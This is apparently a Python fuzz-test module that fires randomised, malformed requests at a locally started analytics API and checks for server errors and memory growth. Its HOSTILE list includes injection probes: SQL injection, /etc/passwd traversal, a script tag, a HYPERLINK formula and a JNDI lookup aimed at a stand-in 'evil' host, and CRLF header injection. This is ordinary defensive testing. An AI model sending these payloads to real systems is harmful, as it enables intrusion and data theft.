"""python -m tests.fuzz [--requests 50000] [--seed N]: hostile requests at a running server of one's own; no 5xx, and flat memory.

Routes, parameters and bodies are those of the OpenAPI document, then spoilt: other types, huge and odd texts, foreign ids, cut and doubled
JSON, wrong headers and methods. Everything is on loopback, and ends by itself.
"""

from __future__ import annotations

import argparse
import http.client
import json
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from statistics import median
from typing import Any
from urllib.parse import quote, urlsplit

from tests.stack import Stack, Started

REQUESTS, THREADS = 50_000, 6
MOST_GROWTH = 1.10
"""Of the server's memory, from the second fifth of the requests (by then everything is loaded) to the last one."""
FIFTHS = 5
HOSTILE = (
    "",
    " ",
    "\0",
    "\r\nX-Injected: 1",
    "' OR '1'='1",
    "../../etc/passwd",
    "%2e%2e%2f",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil")',
    "{{7*7}}",
    "${jndi:ldap://evil}",
    "𝕒𝕓𝕔",
    "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "٣",
    "-1",
    "0",
    "1e400",
    "99999999999999999999999",
    "NaN",
    "null",
    "[]",
    "2026-02-30",
    "9999-12-31T23:59:59Z",
    "0001-01-01",
    "a" * 5000,
    "💣" * 300,
    "service,service,service",
    "tag:",
    "acme-retail",
    "borealis-health",
    "(none)",
)
METHODS = ("GET", "GET", "GET", "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "BREW")
HEADERS = (
    *("Accept", "If-None-Match", "Idempotency-Key", "Prefer", "Content-Type"),
    *("X-Forwarded-For", "Host", "Range", "Cookie", "X-Customer-Id"),
)
SOUND: dict[str, Any] = {
    "/analytics/reports": {"type": "costs", "format": "json", "period": "7d", "breakdown": "service", "top": 3},
    "/analytics/budgets": {"name": "all", "amount": 1000, "thresholds": [{"percent": 80}]},
    "/analytics/compliance/exceptions": {
        "kind": "exception",
        "control_id": "IAM.9",
        "reason": "known",
        "approver": "Ada",
        "expires_at": f"{datetime.now(UTC) + timedelta(days=60):%Y-%m-%d}",
    },
    "/analytics/schedules": {"name": "daily", "report": {"type": "costs", "format": "csv"}, "cadence": {"kind": "daily", "at": "07:00"}},
    "/analytics/recipients": {"channel": "email", "address": "someone@customer.example", "events": ["budget"]},
    "/analytics/templates/{template_id}": {"title": "board", "sections": [{"section": "summary"}], "filters": {"service": ["x"]}},
    "/analytics/templates/preview": {"title": "board", "sections": [{"section": "cost-lines"}]},
    "/analytics/branding": {"name": "Acme", "colour": "#0b4a7a"},
    "/analytics/settings": {"allocation_tags": ["team"], "report_retention_months": 12},
    "/analytics/keys": {"scopes": ["read"], "expires_in_days": 1},
}
"""A body that is taken, per route: what is spoilt begins here."""


@dataclass
class Found:
    """Statuses, the requests that were answered by 5xx or not at all, and the server's memory in KB as it went."""

    statuses: Counter[int] = field(default_factory=Counter)
    wrong: list[str] = field(default_factory=list)
    memory: list[int] = field(default_factory=list)

    @property
    def growth(self) -> float:
        """The memory's median in the last fifth over that in the second."""
        size = max(1, len(self.memory) // FIFTHS)
        return median(self.memory[-size:]) / median(self.memory[size : 2 * size])


class Fuzzer:
    def __init__(self, stack: Stack, seed: int) -> None:
        self._stack, self._seed = stack, seed
        document = stack.anonymous.answer("/openapi.json")
        self._paths = [(path, methods) for path, methods in document["paths"].items()]
        self._host, self._port = urlsplit(stack.base_url).hostname, urlsplit(stack.base_url).port
        one, two = stack.customers[:2]
        self._credentials: list[dict[str, str]] = [
            *([one.by_key] * 24),
            *([one.by_token] * 8),
            {},
            {**one.by_key, **two.by_token},
            {"X-API-Key": one.api_key[:-3]},
            {"Authorization": "Bearer a.b.c"},
            {"Authorization": f"Bearer {'x' * 9000}"},
        ]

    def run(self, count: int, server: int) -> Found:
        """So many requests by a few threads at once; the server's memory is looked at all along."""
        found, each = Found(), max(1, count // 200)
        with ThreadPoolExecutor(THREADS) as pool:
            for start in range(0, count, each):
                for status, told in pool.map(self._one, range(start, min(count, start + each))):
                    found.statuses[status] += 1
                    if status >= 500 or status == 0:
                        found.wrong.append(told)
                found.memory.append(resident(server))
        return found

    def _one(self, number: int) -> tuple[int, str]:
        random = Random(f"{self._seed}/{number}")
        method, target, headers, body = self._request(random)
        connection = http.client.HTTPConnection(self._host or "", self._port, timeout=40)
        try:
            connection.putrequest(method, target, skip_host="Host" in headers, skip_accept_encoding=True)
            for name, value in headers.items():
                connection.putheader(name, value.encode("latin-1", "replace"))
            connection.putheader("Content-Length", str(len(body)))
            connection.endheaders(body)
            response = connection.getresponse()
            response.read()
        except (OSError, http.client.HTTPException) as error:
            return 0, f"{type(error).__name__}: {method} {target[:200]}"
        finally:
            connection.close()
        return response.status, f"{response.status}: {method} {target[:300]} {body[:300]!r}"

    def _request(self, random: Random) -> tuple[str, str, dict[str, str], bytes]:
        path, methods = random.choice(self._paths)
        right = [name.upper() for name in methods if name in ("get", "post", "put", "patch", "delete")]
        method = random.choice(right) if random.random() < 0.8 else random.choice(METHODS)
        operation = methods.get(method.lower(), {})
        target = quote("".join(self._filled(path, random)), safe="/%")
        query = [f"{quote(name, safe='')}={quote(text(random), safe='')}" for name in self._names(operation, random)]
        headers = dict(random.choice(self._credentials))
        for name in HEADERS:
            if random.random() < 0.08:
                headers[name] = text(random).replace("\r", "").replace("\n", "").replace("\0", "")[:2000]
        if "wait" in headers.get("Prefer", ""):
            del headers["Prefer"]
        body = self._body(path, operation, random) if method in ("POST", "PUT", "PATCH") or random.random() < 0.02 else b""
        if body and "Content-Type" not in headers:
            headers["Content-Type"] = "application/json"
        return method, target + (f"?{'&'.join(query)}" if query else ""), headers, body

    def _filled(self, path: str, random: Random) -> Iterator[str]:
        for part in path.split("/")[1:]:
            yield "/"
            yield random.choice(("0" * 32, "a" * 16, "2026-10", "IAM.4", text(random))) if part.startswith("{") else part

    def _names(self, operation: Any, random: Random) -> list[str]:
        known = [one["name"] for one in operation.get("parameters", ()) if one["in"] == "query"]
        names = [name for name in known if random.random() < 0.35]
        return names + ([text(random)[:50]] if random.random() < 0.1 else []) + ([names[0]] if names and random.random() < 0.1 else [])

    def _body(self, path: str, operation: Any, random: Random) -> bytes:
        """A body like those of the document, or spoilt, or none."""
        sound = SOUND.get(path)
        if sound and random.random() < 0.8:
            value = {
                name: made(random, 2) if random.random() < 0.15 else member for name, member in sound.items() if random.random() < 0.95
            }
            value |= {random.choice(MEMBERS): made(random, 2)} if random.random() < 0.1 else {}
        elif "requestBody" in operation and random.random() < 0.7:
            value = {name: made(random, 2) for name in MEMBERS if random.random() < 0.3}
        else:
            value = made(random, 3)
        content = json.dumps(value).encode()
        spoil = random.random()
        if spoil < 0.05:
            content = content[: len(content) // 2]
        elif spoil < 0.08:
            content += content
        elif spoil < 0.10:
            content = random.randbytes(200)
        elif spoil < 0.11:
            content = b"[" * 3000
        elif spoil < 0.115:
            content = b'{"name": "' + b"x" * 300_000 + b'"}'
        return content


MEMBERS = (
    *("type", "format", "period", "start", "end", "template", "breakdown", "service", "account", "tag:team", "top", "cost", "currency"),
    *("name", "amount", "thresholds", "scope", "allocation_tags", "title", "sections", "filters", "colour", "logo", "cadence", "report"),
    *("recipients", "channel", "address", "events", "kind", "control_id", "reason", "approver", "expires_at", "scopes", "overlap_hours"),
    *("expires_in_days", "occurrence", "customer_id", "status"),
)


USUAL = (
    *("7d", "30d", "costs", "csv", "json", "service", "day", "billed", "USD", "2026-10-01", "monthly"),
    *("email", "x@y.example", "read", "10"),
)


def text(random: Random) -> str:
    return random.choice(HOSTILE if random.random() < 0.5 else USUAL)


def made(random: Random, depth: int) -> Any:
    """Some JSON value."""
    kinds: list[Any] = [text(random), random.randrange(-5, 10**6), random.random() * 10**9, None, True]
    if depth:
        kinds += [
            [made(random, depth - 1) for _ in range(random.randrange(4))],
            {random.choice(MEMBERS): made(random, depth - 1) for _ in range(random.randrange(4))},
        ]
    return random.choice(kinds)


def resident(process: int) -> int:
    """The memory of a process, in KB."""
    status = Path(f"/proc/{process}/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmRSS")).split()[1])


def server_of(started: Started) -> int:
    """The API's own process among those of the stack."""
    for process in started.session():
        if b"local.server" in Path(f"/proc/{process}/cmdline").read_bytes():
            return process
    raise RuntimeError("the API's process isn't there")


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.fuzz")
    parser.add_argument("--requests", type=int, default=REQUESTS)
    parser.add_argument("--seed", type=int, default=int(time.time()))
    given = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        started = Started(Path(folder))
        try:
            stack, begun = started.stack(), time.monotonic()
            found = Fuzzer(stack, given.seed).run(given.requests, server_of(started))
            seconds = time.monotonic() - begun
        finally:
            started.stop()
    statuses = ", ".join(f"{status}: {count}" for status, count in sorted(found.statuses.items()))
    print(f"seed {given.seed}, {given.requests} requests in {seconds:.0f} s: {statuses}")
    print("\n".join(found.wrong[:20]))
    print(
        f"server errors {len(found.wrong)}, memory {found.memory[0]} -> {found.memory[-1]} KB, growth {found.growth:.2f}x <= {MOST_GROWTH}x"
    )
    sys.exit(bool(found.wrong) or found.growth > MOST_GROWTH)


if __name__ == "__main__":
    main()
